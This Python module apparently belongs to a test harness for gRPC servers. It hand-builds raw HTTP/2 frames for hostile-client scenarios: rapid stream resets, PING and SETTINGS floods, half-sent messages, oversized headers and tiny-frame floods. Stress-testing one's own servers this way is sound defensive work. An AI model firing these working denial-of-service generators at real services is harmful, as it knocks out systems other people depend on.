"""The bytes that hostile clients of the gRPC hosts send, in HTTP/2. No I/O.

Written without h2, which refuses to send what is unsound.
"""

from __future__ import annotations

import struct
from collections.abc import Iterable, Iterator
from itertools import count

from .hostile_plan import Attack, HostilePlan

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6  # types of frames
END_STREAM, END_HEADERS = 1, 4  # flags
CANCEL = 8  # error code
MAX_FRAME_BYTES = 16_384
STREAMS = 100  # on a connection of a crowd
STREAMS_PER_WRITE = 500
HALF_MESSAGE_BYTES = 200_000
SENT_BYTES = 32_000  # of a message that stops half way
SHORT_FIELDS = 700
TINY_FRAMES = 2_000
MAX_LITERAL_BYTES = 126  # of a name or value that one byte of HPACK can count

Headers = Iterable[tuple[str, str]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header_block(path: str, more: Headers = ()) -> bytes:
    """Returns the headers of a call as HPACK literals, which the peer does not index."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "a"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("grpc-timeout", "2S"),
        *more,
    ]
    return b"".join(b"\0" + _literal(name) + _literal(value) for name, value in fields)


def _literal(text: str) -> bytes:
    data = text.encode()[:MAX_LITERAL_BYTES]
    return bytes((len(data),)) + data


def pieces(plan: HostilePlan, number: int) -> Iterator[bytes]:
    """Returns what one connection sends, piece by piece; without an end where it never ends."""
    yield PREFACE + frame(SETTINGS, 0, 0)
    yield from _PIECES[plan.attack](plan, number)


def _half_messages(plan: HostilePlan, number: int) -> Iterator[bytes]:
    prefix = struct.pack(">BI", 0, HALF_MESSAGE_BYTES)
    for stream in range(1, 2 * STREAMS, 2):
        body = prefix + b"x" * SENT_BYTES
        yield frame(HEADERS, END_HEADERS, stream, header_block(plan.path)) + b"".join(
            frame(DATA, 0, stream, body[start : start + MAX_FRAME_BYTES])
            for start in range(0, len(body), MAX_FRAME_BYTES)
        )


def _short_fields(plan: HostilePlan, number: int) -> Iterator[bytes]:
    block = header_block(plan.path, [(f"f{field}", f"{field}") for field in range(SHORT_FIELDS)])
    for stream in range(1, 2 * STREAMS, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def _tiny_frames(plan: HostilePlan, number: int) -> Iterator[bytes]:
    prefix = frame(DATA, 0, 1, struct.pack(">BI", 0, HALF_MESSAGE_BYTES))
    yield frame(HEADERS, END_HEADERS, 1, header_block(plan.path)) + prefix
    for _ in range(HALF_MESSAGE_BYTES // 2 // TINY_FRAMES - 1):
        yield frame(DATA, 0, 1, b"xy") * TINY_FRAMES


def _streams(make: Iterator[bytes]) -> Iterator[bytes]:
    while True:
        yield b"".join(next(make) for _ in range(STREAMS_PER_WRITE))


def _unknown_methods(plan: HostilePlan, number: int) -> Iterator[bytes]:
    flags = END_HEADERS | END_STREAM
    return _streams(frame(HEADERS, flags, stream, header_block("/x/y")) for stream in count(1, 2))


def _new_names(plan: HostilePlan, number: int) -> Iterator[bytes]:
    def one(stream: int) -> bytes:
        more = (("cartweir-customer", f"t{number}-{stream}"), ("cartweir-key", f"k{number}-{stream}"))
        block = header_block(f"/new{number}/m{stream}", more)
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)

    return _streams(one(stream) for stream in count(1, 2))


def _resets(plan: HostilePlan, number: int) -> Iterator[bytes]:
    block, message = header_block(plan.path), struct.pack(">BI", 0, 1) + b"x"

    def one(stream: int) -> bytes:
        return (
            frame(HEADERS, END_HEADERS, stream, block)
            + frame(DATA, END_STREAM, stream, message)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        )

    return _streams(one(stream) for stream in count(1, 2))


def _pings(plan: HostilePlan, number: int) -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, b"hostile!") * 3000


def _settings(plan: HostilePlan, number: int) -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, 0, 0) * 6000


_PIECES = {
    Attack.HALF_REQUESTS: _half_messages,
    Attack.SHORT_FIELDS: _short_fields,
    Attack.TINY_CHUNKS: _tiny_frames,
    Attack.SMALL_REQUESTS: _unknown_methods,
    Attack.NEW_NAMES: _new_names,
    Attack.RESETS: _resets,
    Attack.PINGS: _pings,
    Attack.SETTINGS: _settings,
    Attack.UNREAD_ANSWERS: _pings,
}
